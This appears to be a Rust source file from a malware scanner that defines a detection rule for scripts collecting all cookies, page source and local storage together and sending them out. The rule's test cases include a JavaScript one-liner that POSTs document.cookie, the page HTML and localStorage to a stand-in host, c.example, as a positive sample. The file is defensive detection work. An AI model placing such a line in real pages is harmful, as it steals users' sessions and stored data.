//! `whole-session-collected`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "whole-session-collected",
    description: "The script collects all cookies, the page itself and the browser's stored data together.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::AllCookies]),
        one(&[Atom::PageSource]),
        one(&[Atom::AllStorage, Atom::Picture, Atom::Storage]),
        one(&[Atom::Request, Atom::Beacon, Atom::Post, Atom::Socket, Atom::FormTarget, Atom::Image]),
    ],
    within: 400,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var r={c:document.cookie,d:document.documentElement.outerHTML,l:JSON.stringify(localStorage),u:location.href};fetch('//c.example/fire',{method:'POST',body:JSON.stringify(r)})",
        ],
        without: &[
            "fetch('/report',{method:'POST',body:document.documentElement.outerHTML})",
            "var r={c:document.cookie,u:location.href};fetch('/a',{method:'POST',body:JSON.stringify(r)})",
        ],
    },
};
